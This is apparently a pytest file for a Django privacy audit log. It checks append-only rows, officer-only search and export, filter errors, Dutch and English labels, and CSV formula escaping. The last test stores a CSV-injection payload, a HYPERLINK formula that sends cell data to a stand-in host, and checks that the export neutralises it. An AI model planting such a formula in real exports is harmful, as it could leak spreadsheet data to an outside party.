"""The audit log: append-only, searchable and exportable by the privacy officer only; each read's
reason in words on the page, its code and its words in the export."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone

from naast.accounts.roles import Role
from naast.privacy import chain
from naast.privacy.models import AuditEvent

pytestmark = pytest.mark.django_db


@pytest.fixture
def audited(f, org, login):
    coordinator = f.user(Role.COORDINATOR, org=org, username="erik")
    hr = f.help_request(org=org)
    login(coordinator).get(f"/staff/requests/{hr.reference}/")
    return AuditEvent.objects.get(object_label=hr.reference), hr


def test_reading_a_request_is_recorded_with_who_what_and_role(audited):
    event, hr = audited
    assert (event.username, event.action, event.roles) == ("erik", "read", "coordinator")
    assert event.client_id == hr.client_id
    assert hr.client.display_name not in (event.object_label + event.reason)  # no names in the log


def test_audit_rows_cannot_be_changed_or_deleted(audited):
    event, _hr = audited
    event.reason = "tampered"
    with pytest.raises(PermissionDenied):
        event.save()
    with pytest.raises(PermissionDenied):
        event.delete()
    with pytest.raises(PermissionDenied):
        AuditEvent.objects.filter(pk=event.pk).update(reason="tampered")
    with pytest.raises(PermissionDenied):
        AuditEvent.objects.all().delete()
    event.refresh_from_db()
    assert event.reason != "tampered"


def test_admin_site_offers_no_way_to_edit_the_log(f, login):
    admin = f.user(Role.ADMIN, is_staff=True, is_superuser=True)
    client = login(admin)
    assert client.get("/admin/privacy/auditevent/").status_code == 404


def test_privacy_officer_searches_the_log(audited, f, login):
    event, hr = audited
    officer = login(f.user(Role.PRIVACY_OFFICER))
    page = officer.get("/staff/privacy/audit/", {"reference": hr.reference})
    assert page.status_code == 200 and hr.reference in page.content.decode()
    empty = officer.get("/staff/privacy/audit/", {"who": "nobody-like-this"})
    assert hr.reference not in empty.content.decode()
    assert "Geen gebeurtenissen" in empty.content.decode()


def test_bad_filter_input_gets_a_message_not_an_error(audited, f, login):
    officer = login(f.user(Role.PRIVACY_OFFICER))
    page = officer.get("/staff/privacy/audit/", {"client_id": "abc", "date_from": "2026-13-45"})
    assert page.status_code == 200
    assert "Voer een geheel getal in" in page.content.decode()


def test_privacy_officer_exports_the_log_and_the_export_is_itself_logged(audited, f, login):
    event, hr = audited
    officer = login(f.user(Role.PRIVACY_OFFICER, username="ahmed"))
    response = officer.get("/staff/privacy/audit/export.csv", {"reference": hr.reference})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["at", "username", "roles", "action"]
    assert any(row[1] == "erik" and row[6] == hr.reference for row in rows[1:])
    assert AuditEvent.objects.filter(username="ahmed", action="export").exists()


@pytest.mark.parametrize("role", [Role.COORDINATOR, Role.SUPPORTER, Role.FUNDER, Role.ADMIN])
def test_only_the_privacy_officer_reads_the_log(role, f, org, login):
    client = login(f.user(role, org=org))
    assert client.get("/staff/privacy/audit/").status_code == 403
    assert client.get("/staff/privacy/audit/export.csv").status_code == 403


INVALID_FILTER = {"client_id": "abc", "date_from": "2026-12-01", "date_to": "2026-01-01"}


def test_an_invalid_filter_shows_its_errors_and_no_events(audited, f, login):
    event, hr = audited
    officer = login(f.user(Role.PRIVACY_OFFICER))
    page = officer.get("/staff/privacy/audit/", INVALID_FILTER)
    html = page.content.decode()
    assert page.status_code == 200
    assert "Controleer het formulier" in html and "De begindatum ligt na de einddatum" in html
    assert "Voer een geheel getal in" in html
    assert hr.reference not in html and "erik" not in html  # not the whole log
    assert "Verbeter het filter om de gebeurtenissen te zien." in html
    assert "Download als CSV" not in html


def test_an_invalid_filter_is_not_exported(audited, f, login):
    event, hr = audited
    officer = login(f.user(Role.PRIVACY_OFFICER, username="ahmed"))
    response = officer.get("/staff/privacy/audit/export.csv", INVALID_FILTER, follow=True)
    html = response.content.decode()
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    assert "Er is niets gedownload: verbeter eerst het filter." in html
    assert "De begindatum ligt na de einddatum" in html  # back on the form, with its errors
    assert hr.reference not in html
    assert not AuditEvent.objects.filter(username="ahmed", action="export").exists()


def test_an_invalid_export_is_refused_in_english_too(audited, f, login):
    officer = login(f.user(Role.PRIVACY_OFFICER))
    officer.post("/i18n/setlang/", {"language": "en", "next": "/staff/"})
    html = officer.get("/staff/privacy/audit/export.csv", INVALID_FILTER, follow=True).content.decode()
    assert "Nothing was downloaded: correct the filter first." in html
    assert "The start date is after the end date." in html


def test_the_log_shows_role_labels_and_what_kind_of_object(audited, f, login):
    event, hr = audited
    officer = login(f.user(Role.PRIVACY_OFFICER))
    html = officer.get("/staff/privacy/audit/", {"reference": hr.reference}).content.decode()
    assert f"Hulpvraag {hr.reference}" in html
    assert "Coördinator" in html
    assert "registry.helprequest" not in html and ">coordinator<" not in html


def test_the_export_has_local_times_and_readable_labels_as_on_the_page(audited, f, login):
    from datetime import UTC, datetime

    event, hr = audited
    chain.append([dict(
        at=datetime(2026, 11, 23, 19, 24, 8, tzinfo=UTC), username="lotte", roles="privacy_officer,supporter",
        action="change", object_type="registry.helprequest", object_id="1", object_label="HV-TEST",
    )])
    officer = login(f.user(Role.PRIVACY_OFFICER))
    page = officer.get("/staff/privacy/audit/", {"reference": "HV-TEST"}).content.decode()
    assert "20:24:08" in page and "Privacyfunctionaris, Cliëntondersteuner" in page
    response = officer.get("/staff/privacy/audit/export.csv", {"reference": "HV-TEST"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows[0], rows[1]
    record = dict(zip(header, row, strict=True))
    assert record["at"] == "2026-11-23 20:24:08+01:00"
    assert (record["action"], record["action_label"]) == ("change", "Gewijzigd")
    assert record["roles_label"] == "Privacyfunctionaris, Cliëntondersteuner"
    assert (record["object_kind"], record["object"]) == ("Hulpvraag", "HV-TEST")


def _event(reason: str, label: str) -> None:
    chain.append([dict(at=timezone.now(), username="lotte", roles="coordinator", action="read",
                              object_type="registry.helprequest", object_id="1", object_label=label, reason=reason)])


def test_audit_log_shows_reasons_in_words_and_keeps_unknown_reasons(f, login):
    reasons = {"HV-1": "list", "HV-2": "queue", "HV-3": "client look-up", "HV-4": "case meeting",
               "HV-5": "caseload", "HV-6": "possible duplicate", "HV-7": "link returning client",
               "HV-8": "Inwoner kwam terug met dezelfde vraag."}
    for label, reason in reasons.items():
        _event(reason, label)
    officer = login(f.user(Role.PRIVACY_OFFICER))
    html = officer.get("/staff/privacy/audit/").content.decode()
    for words in ("Lijst van hulpvragen", "Wachtrij", "Inwoner opzoeken", "Casusoverleg", "Caseload",
                  "Mogelijk dubbel bij aanmelden", "Terugkerende inwoner koppelen",
                  "Inwoner kwam terug met dezelfde vraag."):
        assert f"<td>{words}</td>" in html
    for code in ("list", "queue", "client look-up", "case meeting", "caseload", "possible duplicate",
                 "link returning client"):
        assert f"<td>{code}</td>" not in html

    officer.post("/i18n/setlang/", {"language": "en", "next": "/staff/"})
    english = officer.get("/staff/privacy/audit/").content.decode()
    assert "<td>Client look-up</td>" in english and "<td>Linking a returning resident</td>" in english


def test_audit_export_keeps_the_reason_code_and_adds_its_label(f, login):
    _event("client look-up", "HV-9")
    _event("een eigen reden", "HV-10")
    officer = login(f.user(Role.PRIVACY_OFFICER))
    response = officer.get("/staff/privacy/audit/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_object = {row["object"]: row for row in rows}
    assert (by_object["HV-9"]["reason"], by_object["HV-9"]["reason_label"]) == ("client look-up", "Inwoner opzoeken")
    assert (by_object["HV-10"]["reason"], by_object["HV-10"]["reason_label"]) == ("een eigen reden", "een eigen reden")


def test_a_reason_or_user_name_typed_as_a_formula_stays_text_in_the_export(f, login):
    formula = '=HYPERLINK("http://e.example/?"&A1,"Klik")'
    chain.append([dict(at=timezone.now(), username="@beheer", roles="coordinator", action="change",
                              object_type="registry.helprequest", object_id="7", object_label="HV-FORM",
                              client_id=42, reason=formula)])
    officer = login(f.user(Role.PRIVACY_OFFICER))
    response = officer.get("/staff/privacy/audit/export.csv", {"reference": "HV-FORM"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    record = next(row for row in rows if row["object"] == "HV-FORM")
    assert record["reason"] == "'" + formula and record["reason_label"] == "'" + formula
    assert record["username"] == "'@beheer"
    assert record["client_id"] == "42" and record["at"][0].isdigit()  # numbers and times untouched
